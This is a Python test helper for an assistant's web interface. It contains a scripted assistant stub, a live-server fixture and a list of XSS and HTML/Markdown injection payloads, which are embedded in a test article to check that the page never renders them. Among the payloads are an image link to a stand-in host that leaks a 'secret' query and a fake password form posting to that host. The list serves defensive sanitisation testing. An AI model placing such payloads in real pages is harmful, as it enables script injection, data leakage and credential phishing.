"""What the tests of the web share: a scripted assistant, and the real server in front of it."""

import asyncio
import datetime
import socket
import threading
import time
from collections.abc import Callable, Coroutine, Generator, Iterator, Sequence
from contextlib import closing, contextmanager
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import uvicorn
from parts import told

from assistant.answering.assistant import Assistant
from assistant.answering.steps import Steps
from assistant.articles.reading import Corpus
from assistant.model.holder import ModelState
from assistant.settings import Settings, networks
from assistant.types import Answer, Article, Citation, Outcome, Turn
from assistant.web.server import Server, create_app, server_configuration
from assistant.web.service import Service

PAYLOADS = (
    "<script>window.attacked = 1</script>",
    '<img src="http://evil.test/x.png" onerror="window.attacked = 1">',
    "![x](http://evil.test/?q=secret)",
    "[click](javascript:window.attacked=1)",
    '<svg onload="window.attacked = 1"></svg>',
    '<iframe src="http://evil.test"></iframe>',
    "[data](data:text/html,<script>window.attacked=1</script>)",
    '<form action="http://evil.test"><input name="password"><button>Log in</button></form>',
    '<div style="position:fixed;inset:0;background:red">over everything</div>',
    "```mermaid\ngraph TD; A[<img src=http://evil.test/m.png onerror=window.attacked=1>]\n```",
    "$$\\href{javascript:window.attacked=1}{x}$$ $$\\frac{1}{2}$$",
    '<style>body { display: none }</style><link rel="stylesheet" href="http://evil.test/x.css">',
    "http://evil.test www.evil.test",
)
ALIVE = "img, script, style, link, svg, iframe, form, input, button, code, .katex, .mermaid, [style*=fixed], [onload]"
"""What text must never become."""

QUOTE = "Violent crime has fallen by nearly 18 percent."
ARTICLE = Article(
    id="a-story",
    text=f"The city is large.\n\nA caption. {QUOTE} It fell for years.\n\n" + "\n\n".join(PAYLOADS),
    title=f"A story {PAYLOADS[0]}",
    source=PAYLOADS[1],
)
CITATION = Citation(1, ARTICLE, ARTICLE.text.index(QUOTE), ARTICLE.text.index(QUOTE) + len(QUOTE))
WRITTEN = Answer("", Outcome.WRITTEN, told("It fell by nearly 18 percent. [1]", (CITATION,)), model="a-model")
QUOTED = Answer("", Outcome.QUOTED, told(f"{QUOTE} [1]", (CITATION,)))
DECLINED = Answer("", Outcome.DECLINED, closest=(CITATION,))
OTHER_QUOTE = "It fell for years."
OTHER_CITATION = Citation(
    2, ARTICLE, ARTICLE.text.index(OTHER_QUOTE), ARTICLE.text.index(OTHER_QUOTE) + len(OTHER_QUOTE)
)
BOTH = replace(WRITTEN, parts=told("It fell by nearly 18 percent. [1] For years. [2]", (CITATION, OTHER_CITATION)))
FERRY = Article(
    "ferry",
    "The ferry leaves at nine. Nobody minds.",
    "A ferry",
    date=datetime.date(2025, 3, 27),
    url="https://x.test/f",
)
TOO_LONG = Answer("", Outcome.BLOCKED, told("Please keep it shorter."))

Step = Answer | Exception | threading.Event


class ScriptedAssistant(Assistant):
    """Follows the script that it has for a question: yields an answer, raises an exception, waits for an event."""

    def __init__(self, *articles: Article) -> None:
        """Take the articles that the page shows."""
        self.steps = cast("Steps", SimpleNamespace(corpus=Corpus(articles), help=lambda question: None))
        self._loading = None
        self.script: dict[str, list[Step]] = {}
        self.histories: dict[str, list[Turn]] = {}
        """What was passed as history, by question."""
        self.articles: dict[str, str | None] = {}
        """The only article that was to be answered from, by question."""
        self.opened: dict[str, str | None] = {}
        """The article that its reader had opened, by question."""
        self.ended: list[str] = []
        """The questions whose stream has ended, whichever way."""

    @property
    def model_state(self) -> ModelState:
        """Never get ready, which the page has to do without."""
        return ModelState("loading")

    def stream(
        self,
        question: str,
        history: Sequence[Turn] = (),
        article: str | None = None,
        stopped: threading.Event | None = None,
        opened: str | None = None,
    ) -> Generator[Answer]:
        """Follow the script."""
        self.histories[question] = list(history)
        self.articles[question], self.opened[question] = article, opened
        shown = QUOTED
        try:
            for step in self.script[question]:
                if isinstance(step, Answer):
                    shown = shown if step.final else step
                    yield replace(step, question=question)
                elif isinstance(step, threading.Event):
                    while not step.wait(0.2) and not (stopped and stopped.is_set()):
                        yield replace(shown, question=question, final=False)
                else:
                    raise step
        finally:
            self.ended.append(question)


def in_a_loop(scenario: Callable[[], Coroutine[Any, Any, Any]]) -> Any:  # noqa: ANN401 - whatever it returns
    """Return what the scenario returns; nothing may be left behind in its loop."""
    complaints: list[dict[str, Any]] = []

    async def main() -> Any:  # noqa: ANN401
        asyncio.get_running_loop().set_exception_handler(lambda _, complaint: complaints.append(complaint))
        return await asyncio.wait_for(scenario(), 60)

    result = asyncio.run(main())
    assert complaints == []
    return result


OPEN = Settings(
    model="none", unlimited=networks("127.0.0.1"), data=Path("/nonexistent"), feedback=Path("/nonexistent/feedback")
)
"""Without limits for the tests, and without a file of its own."""


@contextmanager
def running(assistant: Assistant, settings: Settings = OPEN) -> Iterator[str]:
    """Run the real server and yield its address."""
    with closing(socket.create_server(("127.0.0.1", 0))) as listener, serving(assistant, settings, listener):
        yield f"http://127.0.0.1:{listener.getsockname()[1]}"


@contextmanager
def serving(assistant: Assistant, settings: Settings, listener: socket.socket) -> Iterator[Server]:
    """Run the real server behind a listening socket and yield it."""
    servers: list[Server] = []

    async def serve() -> None:
        # Built within the loop: outside of one, Gradio makes event loops and never closes them.
        service = Service(assistant, settings)
        servers.append(Server(server_configuration(create_app(service), settings), service))
        await servers[0].serve([listener])

    def run() -> None:
        # In the loop in which the program serves.
        with asyncio.Runner(loop_factory=uvicorn.Config("", log_config=None).get_loop_factory()) as runner:
            runner.run(serve())

    thread = threading.Thread(target=run)
    thread.start()
    while thread.is_alive() and not (servers and servers[0].started):
        time.sleep(0.05)
    try:
        yield servers[0]
    finally:
        servers[0].should_exit = True
        thread.join()
